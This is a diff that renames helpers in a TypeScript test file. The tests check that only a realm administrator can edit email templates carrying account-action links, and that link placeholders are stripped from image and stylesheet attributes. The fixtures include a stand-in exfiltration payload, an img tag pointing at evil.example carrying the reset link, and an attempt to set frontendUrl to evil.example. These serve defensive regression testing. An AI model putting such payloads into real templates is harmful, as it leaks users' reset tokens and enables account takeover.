@@ -1,11 +1,11 @@
 // Texts of emails with a link decide where it goes: who writes them could act as anybody who gets one.
 import { afterAll, expect, test } from 'vitest'
 import { emailsWithLink } from '../../src/kinds/localization.ts'
-import { LINK_PLACE, withLink } from '../../src/oidc/mail/link.ts'
-import { templates } from '../../src/service/messages/mail.ts'
+import { LINK_PLACEHOLDER, insertLink } from '../../src/oidc/mail/insert-link.ts'
+import { emailTemplates } from '../../src/service/messages/email-templates.ts'
 import { openMailbox } from '../support/mailbox.ts'
-import { administeredRealm } from '../support/realm-with-boss.ts'
-import { applyAs, source } from '../support/reconcile.ts'
+import { createAdminRealm } from '../support/realm-with-boss.ts'
+import { applySource, createSource } from '../support/reconcile.ts'
 import { testServer } from '../support/server.ts'
 import { newName, testService } from '../support/service.ts'
 
@@ -17,17 +17,17 @@ afterAll(() => mailbox.close())
 const IMAGE = '<p>Hello</p><img src="http://evil.example/?{0}">'
 
 test('texts of emails with a link are set, changed and deleted only by who is not weaker than anybody', async () => {
-  const { as, refused } = await administeredRealm({ manager: 'manage-realm' })
+  const { as, expectForbidden } = await createAdminRealm({ manager: 'manage-realm' })
   for (const name of ['passwordResetBodyHtml', 'executeActionsBody', 'emailVerificationBodyHtml']) {
-    await refused('manager', 'POST', 'localization/en', { [name]: IMAGE })
-    await refused('manager', 'POST', 'localization/de', { hello: 'Hallo', [name]: IMAGE })
+    await expectForbidden('manager', 'POST', 'localization/en', { [name]: IMAGE })
+    await expectForbidden('manager', 'POST', 'localization/de', { hello: 'Hallo', [name]: IMAGE })
     expect((await as('boss', 'POST', 'localization/en', { [name]: 'Follow {0}' })).status).toBe(204)
-    await refused('manager', 'POST', 'localization/en', { [name]: IMAGE })
-    await refused('manager', 'DELETE', `localization/en/${name}`)
+    await expectForbidden('manager', 'POST', 'localization/en', { [name]: IMAGE })
+    await expectForbidden('manager', 'DELETE', `localization/en/${name}`)
   }
-  await refused('manager', 'DELETE', 'localization/en')
+  await expectForbidden('manager', 'DELETE', 'localization/en')
   expect((await as('boss', 'GET', 'localization/en')).body.passwordResetBodyHtml).toBe('Follow {0}')
-  await refused('manager', 'PUT', '', { attributes: { frontendUrl: 'http://evil.example' } })
+  await expectForbidden('manager', 'PUT', '', { attributes: { frontendUrl: 'http://evil.example' } })
 
   expect((await as('manager', 'POST', 'localization/en', { loginAccountTitle: 'Welcome' })).status).toBe(204)
   expect((await as('manager', 'POST', 'localization/fr', { passwordResetSubject: 'Oubli' })).status).toBe(204)
@@ -35,7 +35,7 @@ test('texts of emails with a link are set, changed and deleted only by who is no
 })
 
 test('PUT of a single text of an email with a link returns 403 for who is weaker', async () => {
-  const { path, token } = await administeredRealm({ manager: 'manage-realm' })
+  const { path, token } = await createAdminRealm({ manager: 'manage-realm' })
   const put = async (person: string) =>
     call('PUT', `${path}/localization/en/passwordResetBodyHtml`, {
       token: await token(person),
@@ -48,18 +48,18 @@ test('PUT of a single text of an email with a link returns 403 for who is weaker
 
 test('a limited source declares no text of an email with a link in a realm with somebody stronger', async () => {
   const name = newName()
-  const declared = (content: object) => ({ ...source([{ realm: name, ...content }], name), ceiling: { roles: [] } })
+  const declared = (content: object) => ({ ...createSource([{ realm: name, ...content }], name), sourcePermissions: { roles: [] } })
   const boss = { username: 'boss', clientRoles: { 'realm-management': ['realm-admin'] } }
-  await applyAs(service, source([{ realm: name, users: [boss] }], `${name}-owner`))
-  await applyAs(service, declared({ localizationTexts: { en: { hello: 'Hello' } } }))
+  await applySource(service, createSource([{ realm: name, users: [boss] }], `${name}-owner`))
+  await applySource(service, declared({ localizationTexts: { en: { hello: 'Hello' } } }))
   const stolen = declared({ localizationTexts: { en: { hello: 'Hello', executeActionsBodyHtml: IMAGE } } })
-  await expect(applyAs(service, stolen)).rejects.toMatchObject({
+  await expect(applySource(service, stolen)).rejects.toMatchObject({
     problems: [{ message: expect.stringContaining(`you lack realm-admin of ${name}`) }],
   })
 })
 
 test('every email with a link is among those whose texts decide', () => {
-  const linked = Object.entries(templates).flatMap(([name, values]) =>
+  const linked = Object.entries(emailTemplates).flatMap(([name, values]) =>
     (values as readonly string[]).includes('link') ? [name] : [],
   )
   expect(linked.sort()).toEqual([...emailsWithLink].sort())
@@ -72,7 +72,7 @@ test('an email of a realm puts its link into the address of an anchor and into t
   const executeActionsBodyHtml = `${IMAGE}<p><a class="button" href="{0}">{0}</a></p>`
   await call('POST', `${path}/localization/en`, { body: { executeActionsBodyHtml } })
   expect((await call('PUT', `${user}/execute-actions-email`, { body: ['UPDATE_PASSWORD'] })).status).toBe(204)
-  const { html } = mailbox.mails.findLast(({ to }) => to.includes('ann-link@example.org'))!
+  const { html } = mailbox.emails.findLast(({ to }) => to.includes('ann-link@example.org'))!
   expect(html).toContain('<img src="http://evil.example/?">')
   expect(html).toMatch(/<a class="button" href="http:[^"]+key=[^"]+">http:.+key=/)
 })
@@ -93,5 +93,5 @@ test.each([
   ['<link rel="stylesheet" href="{0}">', '<link rel="stylesheet" href="">'],
   ['{0}', SHOWN],
 ])('%s becomes %s', (pattern, expected) => {
-  expect(withLink(pattern.replaceAll('{0}', LINK_PLACE), LINK)).toBe(expected)
+  expect(insertLink(pattern.replaceAll('{0}', LINK_PLACEHOLDER), LINK)).toBe(expected)
 })
